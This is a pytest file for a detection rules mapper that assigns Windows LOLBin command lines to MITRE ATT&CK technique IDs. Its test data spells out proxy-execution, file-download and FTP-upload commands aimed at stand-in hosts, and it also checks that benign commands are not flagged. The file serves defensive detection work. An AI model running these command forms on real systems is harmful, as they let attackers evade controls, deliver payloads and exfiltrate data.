"""Trusted Windows binaries and scripts that proxy execution or fetch files (LOLBins).

The rules mapper alone: the best candidate names the most specific technique,
and rules that own a form keep broader rules from outranking them.
"""

from __future__ import annotations

import pytest

from llmnav.mapping.rules import RulesMapper


@pytest.fixture(scope="module")
def mapper() -> RulesMapper:
    return RulesMapper()


def best(mapper: RulesMapper, text: str) -> str | None:
    candidates = mapper.map_text(text)
    return candidates[0].technique_id if candidates else None


def techniques(mapper: RulesMapper, text: str) -> set[str]:
    return {c.technique_id for c in mapper.map_text(text)}


CASES: list[tuple[str, str]] = [
    # T1127 trusted developer utilities
    (
        r"rundll32.exe dfshim.dll,ShOpenVerbApplication https://example.net/app/App.application",
        "T1127.002",
    ),
    (r"C:\Users\Public\Update.appref-ms", "T1127.002"),
    (r"cdb.exe -cf C:\Users\Public\run.wds -o notepad.exe", "T1127"),
    (r"Tracker.exe /d C:\Users\Public\hook.dll /c C:\Windows\System32\notepad.exe", "T1127"),
    (r"rcsi.exe C:\Users\Public\run.csx", "T1127"),
    (r"vsjitdebugger.exe C:\Users\Public\tool.exe", "T1127"),
    # T1202 indirect command execution
    (r"forfiles /p C:\Windows\System32 /m notepad.exe /c C:\Users\Public\tool.exe", "T1202"),
    (r"wsl.exe --exec /mnt/c/Users/Public/tool", "T1202"),
    (r'ScriptRunner.exe -appvscript "C:\Users\Public\tool.exe"', "T1202"),
    (r"conhost.exe C:\Users\Public\tool.exe", "T1202"),
    (r"ssh -o ProxyCommand=C:\Users\Public\tool.exe localhost", "T1202"),
    # T1216 signed script proxy execution
    (r'cscript pubprn.vbs 127.0.0.1 "script:https://example.net/a.sct"', "T1216.001"),
    (r'SyncAppvPublishingServer.vbs "n; Start-Process C:\Users\Public\tool.exe"', "T1216.002"),
    (r"set comspec=C:\Users\Public\tool.exe & cscript C:\Windows\System32\manage-bde.wsf", "T1216"),
    # T1218 system binary proxy execution
    (
        r'teams.exe --disable-gpu-sandbox --gpu-launcher="C:\Windows\System32\cmd.exe /c whoami"',
        "T1218.015",
    ),
    (r"%LOCALAPPDATA%\Discord\Update.exe --processStart C:\Users\Public\tool.exe", "T1218"),
    (r'AgentExecutor.exe -powershell "C:\Users\Public\a.ps1" "C:\t\1.log"', "T1218"),
    # T1105 ingress tool transfer through binaries that are not download tools
    (r"extrac32 /Y /C \\203.0.113.7\share\tool.exe C:\Users\Public\tool.exe", "T1105"),
    (r"start ms-appinstaller://?source=https://example.net/app.msixbundle", "T1105"),
    (r"someutil.exe https://example.net/tool.exe C:\Users\Public\tool.exe", "T1105"),
    (r'msedge.exe --headless --dump-dom "https://example.net/p.html" > p.txt', "T1105"),
    (r"echo get tool.exe>s.txt & echo quit>>s.txt & ftp -s:s.txt 203.0.113.7", "T1105"),
]


@pytest.mark.parametrize(("text", "technique"), CASES)
def test_lolbin_forms_map_to_their_technique(
    mapper: RulesMapper, text: str, technique: str
) -> None:
    assert best(mapper, text) == technique, mapper.map_text(text)


def test_clickonce_is_not_also_reported_as_a_plain_rundll32_export(mapper: RulesMapper) -> None:
    found = techniques(
        mapper, r"rundll32.exe dfshim.dll,ShOpenVerbApplication https://example.net/a"
    )
    assert "T1218.011" not in found


def test_an_ftp_script_that_only_downloads_is_not_exfiltration(mapper: RulesMapper) -> None:
    download = "echo get tool.exe>s.txt & ftp -s:s.txt 203.0.113.7"
    upload = r"echo put C:\Users\Public\l.zip>s.txt & ftp -s:s.txt 203.0.113.7"
    assert "T1048.003" not in techniques(mapper, download)
    assert best(mapper, upload) == "T1048.003"


@pytest.mark.parametrize(
    "text",
    [
        "wsl --install -d Ubuntu",
        "wsl -l -v",
        'ssh -o ProxyCommand="ssh -W %h:%p bastion" internal-host',
        "chrome.exe https://example.net",
        r"type C:\Users\Public\report.txt > \\fileserver\share\report.txt",
        "git.exe clone https://github.com/example/project",
        "dotnet test",
        "manage-bde -status C:",
    ],
)
def test_everyday_commands_are_not_read_as_proxy_execution_or_ingress(
    mapper: RulesMapper, text: str
) -> None:
    found = techniques(mapper, text)
    assert not found & {"T1105", "T1127", "T1202", "T1216", "T1218"}, found
